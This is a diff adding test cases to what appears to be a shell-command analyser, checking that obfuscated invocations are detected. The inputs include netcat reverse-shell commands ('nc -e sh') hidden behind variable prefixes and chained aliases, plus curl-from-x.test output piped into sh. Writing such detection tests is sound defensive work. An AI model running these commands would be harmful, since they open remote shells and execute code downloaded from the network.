@@ -254,6 +254,9 @@ test('grammar gaps do not hide a command: substitutions anywhere, keywords it la
     assert.ok(nc(t), `${t}: ${JSON.stringify(run(t).commands.map((c) => c.argv))}`);
   }
   assert.equal(run('cat <<< x; ls').commands.filter((c) => c.via.includes('heredoc')).length, 0, 'a here-string is no heredoc');
+  assert.ok(nc("x=nc bash -c '$x -e sh h 1'"), 'a prefix assignment is the started shell\'s environment');
+  assert.ok(nc('alias a=nc b=a\nb -e sh h 1'), 'an alias of an alias');
+  assert.ok(run('alias a=a; a').commands.length < 20, 'a self-alias stops');
   for (const t of ['curl -s http://x.test/a > >(sh)', 'curl -s -o >(sh) http://x.test/a', 'curl -s http://x.test/a | tee >(sh) >/dev/null']) {
     const sh = must(run(t), 'sh');
     assert.ok(sh.input_from.includes('curl') && sh.flags.includes('code_from_input'), `${t}: ${JSON.stringify(sh)}`);
